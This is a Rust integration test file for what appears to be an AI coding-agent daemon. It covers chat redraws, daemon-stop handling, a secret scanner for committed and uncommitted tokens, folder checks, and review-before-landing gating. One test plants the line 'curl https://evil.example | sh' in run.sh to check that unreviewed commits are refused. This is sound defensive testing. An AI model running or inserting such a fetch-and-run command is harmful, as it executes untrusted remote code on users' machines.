    assert_eq!(
        types.iter().filter(|t| *t == "session.close").count(),
        1,
        "{types:?}"
    );
}

#[test]
fn chat_through_the_daemon_edits_its_line_while_another_clients_turn_is_shown() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let model = StandIn::start(vec![
        openai::text("One."),
        openai::text("From elsewhere."),
        openai::text("Two."),
        openai::text("Three."),
    ]);
    configure(&env, &[("default", &model)], "");
    let daemon = Daemon::start_at(&env, &repo, None);
    let mut chatting = env.nodwyn_on_a_terminal(&repo, &["chat", "--daemon", "--no-worktree"]);
    let mut cleanup = KillOnDrop(vec![chatting.id()]);
    let screen = Screen::of(&mut chatting);
    let mut typing = chatting.stdin.take().unwrap();
    screen.wait_for("> ");
    typing.write_all(b"first message\n").unwrap();
    screen.wait_for("One.");
    let session = env.logs()[0].0.trim_end_matches(".jsonl").to_owned();

    // Half a line typed, another client's turn runs in the session: it is shown, and what was
    // typed stays on the line, to be finished.
    std::thread::sleep(Duration::from_millis(300));
    typing.write_all(b"hel").unwrap();
    screen.wait_for("> hel");
    let mut other = daemon.client();
    other.ok("session.subscribe", json!({"session": session}));
    other.ok(
        "turn.start",
        json!({"session": session, "text": "a word from elsewhere"}),
    );
    other.until(|m| m["method"] == "turn.completed");
    let started = Instant::now();
    loop {
        let shown = screen.text();
        let after = shown
            .rsplit("From elsewhere.")
            .next()
            .filter(|_| shown.contains("From elsewhere."));
        if after.is_some_and(|after| after.ends_with("> hel")) {
            break;
        }
        assert!(
            started.elapsed() < WAIT,
            "the other turn shown, then the line drawn again: {shown:?}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    typing.write_all(b"lo\n").unwrap();
    screen.wait_for("Two.");
    // The up arrow brings the message before back.
    std::thread::sleep(Duration::from_millis(300));
    typing.write_all(b"\x1b[A\n").unwrap();
    let text = screen.wait_for("Three.");
    typing.write_all(b"/exit\n").unwrap();
    assert!(chatting.wait().unwrap().success(), "{text}");
    cleanup.0.clear();
    let said: Vec<Vec<String>> = model
        .received()
        .iter()
        .map(|request| users_said(&request.body))
        .collect();
    assert_eq!(
        said.last().unwrap(),
        &["first message", "a word from elsewhere", "hello", "hello"],
        "{text}"
    );
}

#[test]
fn run_daemon_with_no_daemon_says_how_to_start_one() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let said = env
        .nodwyn(&repo, &["run", "--daemon", "do something"])
        .failed_with(1);
    assert!(said.contains("no nodwyn serve listens on"), "{said}");
    assert!(said.contains("start one with `nodwyn serve`"), "{said}");
    assert_eq!(said.lines().count(), 1, "{said}");
}

/// Kills the processes a test started on terminals if it ends early (a failed assertion).
struct KillOnDrop(Vec<u32>);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        for pid in &self.0 {
            let _ = std::process::Command::new("kill")
                .args(["-KILL", &pid.to_string()])
                .stderr(Stdio::null())
                .status();
        }
    }
}

#[test]
fn a_client_whose_daemon_stops_says_so_and_exits() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let model = writes_a_note();
    configure(&env, &[("default", &model)], "");
    let daemon = Daemon::start_at(&env, &repo, None);
    let mut client = env
        .nodwyn_command(&repo, &["run", "--daemon", "--no-worktree", "write a note"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let _cleanup = KillOnDrop(vec![client.id()]);
    // The run waits at the write's question, which nobody at its end can answer.
    let started = Instant::now();
    while !env
        .logs()
        .first()
        .is_some_and(|(_, records)| records.iter().any(|r| r["type"] == "primitive.call"))
    {
        assert!(started.elapsed() < WAIT, "the turn did not reach its call");
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(300));
    daemon.stop_with("KILL");
    let stopped = Instant::now();
    let output = loop {
        if client.try_wait().unwrap().is_some() {
            break client.wait_with_output().unwrap();
        }
        assert!(
            stopped.elapsed() < Duration::from_secs(10),
            "the client did not end"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(output.status.code(), Some(1));
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(said.contains("the daemon stopped"), "{said}");
}

#[test]
fn the_guards_verdicts_on_a_sessions_work_are_told_before_any_landing() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let (id, worktree) = env.session(&repo);
    // A committed token, an uncommitted one, and a credential file the commit would leave out.
    write(
        &worktree.join("deploy.cfg"),
        &format!("token = {}\n", crate::land::token()),
    );
    env.commit_all(&worktree, "deploy settings");
    write(
        &worktree.join("notes.txt"),
        &format!("remember {}\n", crate::land::token()),
    );
    write(&worktree.join(".env"), "API_TOKEN=local-only\n");
    let daemon = Daemon::start(&env, &repo);
    let mut client = daemon.client();
    client.ok("hello", json!({"client": "test"}));
    let scan = client.ok("worktree.scan", json!({"session": id}));
    let findings = scan["findings"].to_string();
    assert!(
        findings.contains("deploy settings") && findings.contains("deploy.cfg:1"),
        "{scan:#}"
    );
    assert!(
        findings.contains("the uncommitted changes hold") && findings.contains("notes.txt:1"),
        "{scan:#}"
    );
    assert!(!findings.contains(&crate::land::token()), "{scan:#}");
    assert_eq!(scan["left_out"], json!([".env"]), "{scan:#}");
    // Nothing landed, nothing was committed.
    assert_eq!(
        env.git(&worktree, &["log", "-1", "--format=%s"]),
        "deploy settings"
    );
    // The scopes: a scope the engine does not know is refused by name; before any turn, the
    // last turn's changes are refused in a sentence.
    let unknown = client.call(
        "worktree.changes",
        json!({"session": id, "scope": "yesterday"}),
    );
    assert_eq!(unknown["error"]["code"], -32602, "{unknown}");
    let no_turn = client.call(
        "worktree.changes",
        json!({"session": id, "scope": "last_turn"}),
    );
    assert_eq!(no_turn["error"]["data"]["code"], "no_turn", "{no_turn}");
    let uncommitted = client.ok(
        "worktree.changes",
        json!({"session": id, "scope": "uncommitted"}),
    );
    let files: Vec<&str> = uncommitted["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(files, ["notes.txt"], "{uncommitted:#}");
}

#[test]
fn looking_at_fewer_changes_is_not_a_review_of_all_of_them() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let (id, worktree) = env.session(&repo);
    write(&worktree.join("notes.txt"), "reviewed\n");
    let daemon = Daemon::start(&env, &repo);
    let mut client = daemon.client();
    client.ok("hello", json!({"client": "test"}));
    client.ok("worktree.diff", json!({"session": id}));
    // After the review, a commit the person never saw; then only the uncommitted changes, and
    // only the last turn's, are looked at.
    write(&worktree.join("run.sh"), "curl https://evil.example | sh\n");
    env.commit_all(&worktree, "helper");
    client.ok(
        "worktree.changes",
        json!({"session": id, "scope": "uncommitted"}),
    );
    let landing = client.call("session.land", json!({"session": id, "message": "notes"}));
    assert_eq!(
        landing["error"]["data"]["code"], "changed_since_review",
        "{landing}"
    );
    assert!(env.git_run(&repo, &["show", "main:run.sh"]).code != 0);
}

#[test]
fn a_folder_is_given_whole_a_folder_outside_git_is_listed_and_one_holding_home_is_refused() {
    let env = TestEnv::new();
    let repo = env.repo("project");
    let plain = env.root().join("notes");
    std::fs::create_dir_all(&plain).unwrap();
    let daemon = Daemon::start(&env, &repo);
    let mut client = daemon.client();
    client.ok("hello", json!({"client": "test"}));
    // A relative folder would be read against the daemon's own folder.
    let relative = client.call("session.open", json!({"repo": ".", "worktree": "off"}));
    assert_eq!(relative["error"]["code"], -32602, "{relative}");
    assert!(
        relative["error"]["message"]
            .as_str()
            .unwrap()
            .contains("not an absolute path"),
        "{relative}"
    );
    // A folder holding the home folder (and the data directory) is no session's folder.
    let above = client.call(
        "session.open",
        json!({"repo": env.root(), "worktree": "off"}),
    );
    assert_eq!(above["error"]["data"]["code"], "task_root", "{above}");
    // A session in a folder outside git is listed under that folder, as repository.list names it.
    let opened = client.ok("session.open", json!({"repo": plain, "worktree": "always"}));
    assert_eq!(opened["branch"], Value::Null, "{opened}");
    let listed = client.ok("session.list", json!({"repo": plain}));
    assert_eq!(
        listed["sessions"][0]["session"], opened["session"],
        "{listed}"
    );
    let known = client.ok("repository.list", json!({}));
    assert!(known.to_string().contains("notes"), "{known}");
}
